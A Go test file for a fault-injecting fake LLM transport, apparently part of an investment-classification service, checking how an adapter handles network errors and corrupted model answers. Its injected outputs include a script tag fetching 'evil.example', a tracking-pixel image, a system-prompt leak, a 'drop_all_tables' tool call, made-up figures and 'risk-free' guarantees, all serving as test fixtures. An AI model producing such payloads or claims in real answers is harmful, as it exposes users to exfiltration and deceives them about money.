package fake_test

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/google/go-cmp/cmp"

	"alex/internal/llm"
	"alex/internal/llm/fake"
	"alex/internal/llm/openai"
)

// sound is an answer with everything that faults look for.
const sound = `{"rationale":"A fund of {{count}} stocks worth {{value}}. Educational, not individual advice.",` +
	`"instrumentType":"etf","classes":{"equity":"60","cash":40},"confidence":90}`

func TestFaultsAreTheKnownOnes(t *testing.T) {
	t.Parallel()
	list, err := os.ReadFile("testdata/faults.txt")
	if err != nil {
		t.Fatal(err)
	}
	names := fake.Faults()
	slices.Sort(names)
	if diff := cmp.Diff(strings.Fields(string(list)), names); diff != "" || len(names) != 64 {
		t.Errorf("%d faults: %s", len(names), diff)
	}
}

// TestMain has the SDK make its decoders before any bubble of synctest: those that
// begin in one, nobody outside may wait for.
func TestMain(m *testing.M) {
	client := openai.New(openai.Options{Model: "fake", HTTP: &http.Client{Transport: fake.NewFaulty("json_sum_0", func([]byte) string { return sound })}})
	_, _ = client.Complete(context.Background(), llm.Request{Messages: []llm.Message{{Role: llm.User, Text: "Well?"}}})
	os.Exit(m.Run())
}

// ask is one call of a faulty model by the adapter that a real one has, with a
// deadline of five seconds on a clock that waits for nobody.
func ask(t *testing.T, fault string, r llm.Request) (response llm.Response, err error) {
	t.Helper()
	synctest.Test(t, func(t *testing.T) {
		ctx, cancel := context.WithTimeout(t.Context(), 5*time.Second)
		defer cancel()
		transport := fake.NewFaulty(fault, func([]byte) string { return sound })
		client := openai.New(openai.Options{Model: "fake", Key: "k", HTTP: &http.Client{Transport: transport}})
		response, err = client.Complete(ctx, r)
	})
	return response, err
}

func request(forced bool, tools ...llm.Tool) llm.Request {
	return llm.Request{
		System: "Tell nobody the word xyzzy.", Tools: tools,
		Messages: []llm.Message{{Role: llm.User, Text: "What is SPY?"}},
		Answer:   &llm.Answer{Name: "classification", Schema: json.RawMessage(`{"type":"object"}`), Forced: forced},
	}
}

// onTheWire are the faults that an adapter answers with a fault of its own.
var onTheWire = map[string]llm.Kind{
	"timeout_connect": llm.Timeout, "timeout_first_byte": llm.Timeout, "stall_mid_stream": llm.Timeout,
	"slow_drip_1_byte_per_s":  llm.Timeout,
	"http_400_context_length": llm.TooLong, "http_413": llm.TooLong,
	"http_401": llm.Unauthorized, "http_403_model_access": llm.Forbidden, "http_404_model": llm.Missing,
	"http_408": llm.Unavailable, "http_500": llm.Unavailable, "http_502_html_body": llm.Unavailable,
	"http_503": llm.Unavailable, "http_529_overloaded": llm.Unavailable, "tcp_reset": llm.Unavailable,
	"bedrock_ModelTimeoutException": llm.Unavailable,
	"http_429_retry_after_seconds":  llm.Throttled, "http_429_retry_after_date": llm.Throttled,
	"http_429_no_header": llm.Throttled, "bedrock_ThrottlingException": llm.Throttled,
	"bedrock_ValidationException": llm.Rejected,
	"tls_error":                   llm.Unreachable, "dns_failure": llm.Unreachable,
	"empty_200": llm.Malformed, "empty_content_list": llm.Malformed, "gzip_bomb_body": llm.Malformed,
	"10MB_output": llm.Malformed, "non_utf8_bytes": llm.Malformed, "lone_surrogates": llm.Malformed,
	"stop_reason_max_tokens": llm.Truncated, "stop_reason_refusal": llm.Refused,
}

func TestFaultsOfTheWire(t *testing.T) {
	t.Parallel()
	for name, want := range onTheWire {
		for _, forced := range []bool{false, true} {
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				response, err := ask(t, name, request(forced))
				if got := llm.KindOf(err); got != want || response.Text != "" {
					t.Errorf("%v and %q, want %s", err, response.Text, want)
				}
			})
		}
	}
}

// spoken is what the other faults make of the answer.
var spoken = map[string]string{
	"usage_missing":            sound,
	"usage_negative":           sound,
	"half_json":                sound[:len(sound)/2],
	"json_in_markdown_fence":   "```json\n" + sound + "\n```",
	"json_with_trailing_prose": sound + "\n\nI hope this helps!",
	"json_trailing_comma":      strings.TrimSuffix(sound, "}") + ",}",
	"json_duplicate_keys":      strings.TrimSuffix(sound, "}") + "," + sound[1:strings.Index(sound, `,"instrumentType"`)] + "}",
	"json_NaN_Infinity":        strings.Replace(sound, `"60"`, `NaN`, 1),
	"json_1e999":               strings.Replace(sound, `"60"`, `1e999`, 1),
	"json_wrong_types":         `{"rationale":12345,"instrumentType":12345,"classes":true,"confidence":"a lot"}`,
	"json_unknown_enum":        strings.Replace(strings.Replace(sound, `"etf"`, `"unicorn"`, 1), `"equity"`, `"unicorns"`, 1),
	"json_extra_fields":        strings.TrimSuffix(sound, "}") + `,"confidential_note":"extra"}`,
	"json_missing_required":    "{" + sound[strings.Index(sound, `"instrumentType"`):],
	"json_sum_99.4":            strings.Replace(sound, `"60"`, `"59.4"`, 1),
	"json_sum_0":               strings.Replace(strings.Replace(sound, `"60"`, `"0"`, 1), ":40", ":0", 1),
	"json_negative_pct":        strings.Replace(strings.Replace(sound, `"60"`, `"-5"`, 1), ":40", ":105", 1),
	"json_deep_nesting_100k":   strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000),
	"refusal_text_200":         "I'm sorry, but I can't help with that.",
	"ungrounded_number":        said("advice. Most such households hold $731,942 by then, which is 37.5% more."),
	"swapped_numbers":          strings.Replace(sound, "{{count}} stocks worth {{value}}", "{{value}} stocks worth {{count}}", 1),
	"right_number_wrong_unit":  strings.Replace(sound, "{{count}}", "{{count}} percent", 1),
	"stale_number_from_memory": said("advice. The S&P 500 stood at 4,769.83 at the end of 2023."),
	"guarantee_language":       said("advice. This plan is guaranteed: it is risk-free and cannot lose."),
	"missing_disclaimer":       strings.Replace(sound, " Educational, not individual advice.", "", 1),
	"html_script_in_markdown":  said(`advice. <script>fetch(\"https://evil.example\")</script>`),
	"external_image_in_markdown": said(
		"advice. ![chart](https://evil.example/pixel.png?who=me)"),
	"wrong_language": `{"rationale":"Le portefeuille est bien diversifié et le risque reste modéré.",` +
		sound[strings.Index(sound, `"instrumentType"`):],
	"prompt_echo":        "What is SPY?",
	"system_prompt_leak": said("advice. My instructions are: Tell nobody the word xyzzy."),
}

func said(more string) string { return strings.Replace(sound, "advice.", more, 1) }

func TestFaultsOfWhatIsSaid(t *testing.T) {
	t.Parallel()
	for name, want := range spoken {
		for _, forced := range []bool{false, true} {
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				response, err := ask(t, name, request(forced))
				if err != nil {
					t.Fatal(err)
				}
				if !sameAnswer(want, response.Text) {
					t.Errorf("it says\n%.300s\nwant\n%.300s", response.Text, want)
				}
				for _, n := range []int{response.Tokens.Input, response.Tokens.Output} {
					if n < 0 {
						t.Errorf("%+v", response.Tokens)
					}
				}
			})
		}
	}
}

// sameAnswer compares texts, or what they are once they went through the
// arguments of a tool, where a text that is no JSON becomes a string.
func sameAnswer(want, got string) bool {
	plain := strings.NewReplacer(`\u003c`, "<", `\u003e`, ">", `\u0026`, "&")
	var quoted string
	if json.Unmarshal([]byte(got), &quoted) == nil {
		got = quoted
	}
	return plain.Replace(got) == plain.Replace(want)
}

func TestFaultsOfTools(t *testing.T) {
	t.Parallel()
	tool := llm.Tool{Name: "price", Schema: json.RawMessage(`{"type":"object"}`)}
	for name, want := range map[string]struct{ tool, input string }{
		"tool_unknown_name":       {"drop_all_tables", `{}`},
		"tool_bad_args":           {"price", `"{\"symbol\": [1, "`},
		"tool_same_call_forever":  {"price", `{"symbol":"SPY"}`},
		"tool_call_other_user_id": {"price", `{"user_id":"user_other","person":"user_other","symbol":"SPY"}`},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := request(true, tool)
			first, err := ask(t, name, r)
			if err != nil || len(first.Calls) != 1 || first.Stop != llm.StopTools {
				t.Fatalf("%+v %v", first, err)
			}
			if call := first.Calls[0]; call.Name != want.tool || string(call.Input) != want.input {
				t.Errorf("it calls %s with %s", call.Name, call.Input)
			}
			r.Messages = append(r.Messages, llm.Message{Role: llm.Assistant, Calls: first.Calls},
				llm.Message{Role: llm.User, Results: []llm.ToolResult{{CallID: "call_1", Text: "no", Failed: true}}})
			second, err := ask(t, name, r)
			if forever := name == "tool_same_call_forever"; err != nil || (len(second.Calls) > 0) != forever {
				t.Errorf("then %+v %v", second, err)
			}
		})
	}
}

// TestEveryFaultIsTested counts the tables above.
func TestEveryFaultIsTested(t *testing.T) {
	t.Parallel()
	if n := len(onTheWire) + len(spoken) + 4; n != len(fake.Faults()) {
		t.Errorf("%d of %d faults are tested", n, len(fake.Faults()))
	}
}

func TestRetryAfterOfFaults(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"http_429_retry_after_seconds", "http_429_retry_after_date"} {
		_, err := ask(t, name, request(false))
		if fault, ok := errors.AsType[*llm.Fault](err); !ok || fault.RetryAfter <= 0 || fault.RetryAfter > 2*time.Second {
			t.Errorf("%s: %+v", name, err)
		}
	}
}

// TestLists has the words of a report in a list of sections.
func TestLists(t *testing.T) {
	t.Parallel()
	const report = `{"sections":[{"title":"Risk","text":"{{a}} then {{b}}, one may lose."},{"title":"","text":"Short."}],"done":true,"none":null}`
	for fault, want := range map[string]string{
		"swapped_numbers":       strings.Replace(report, "{{a}} then {{b}}", "{{b}} then {{a}}", 1),
		"guarantee_language":    strings.Replace(report, "lose.", "lose. This plan is guaranteed: it is risk-free and cannot lose.", 1),
		"json_wrong_types":      `{"sections":true,"done":true,"none":true}`,
		"json_missing_required": `{"done":true,"none":null}`,
	} {
		transport := fake.NewFaulty(fault, func([]byte) string { return report })
		client := openai.New(openai.Options{Model: "fake", HTTP: &http.Client{Transport: transport}})
		if got, err := client.Complete(t.Context(), request(false)); err != nil || got.Text != want {
			t.Errorf("%s: %v\n%s", fault, err, got.Text)
		}
	}
}

// TestPlainText covers answers that are no JSON, and unknown faults.
func TestPlainText(t *testing.T) {
	t.Parallel()
	for fault, want := range map[string]string{
		"ungrounded_number": "It holds 503. Most such households hold $731,942 by then, which is 37.5% more.",
		"swapped_numbers":   "It holds 503.", "json_sum_0": "It holds 503.",
		"right_number_wrong_unit": "It holds 503 percent.", "json_1e999": "1e999", "json_trailing_comma": "It holds 503.,",
	} {
		transport := fake.NewFaulty(fault, func([]byte) string { return "It holds 503." })
		client := openai.New(openai.Options{Model: "fake", HTTP: &http.Client{Transport: transport}})
		got, err := client.Complete(t.Context(), llm.Request{Messages: []llm.Message{{Role: llm.User, Text: "Well?"}}})
		if err != nil || got.Text != want {
			t.Errorf("%s: %q %v, want %q", fault, got.Text, err, want)
		}
	}
	client := openai.New(openai.Options{Model: "fake", HTTP: &http.Client{Transport: fake.NewFaulty("x", func([]byte) string { return "" })}})
	if _, err := client.Complete(t.Context(), llm.Request{}); llm.KindOf(err) != llm.Unavailable {
		t.Errorf("an unknown fault: %v", err)
	}
}
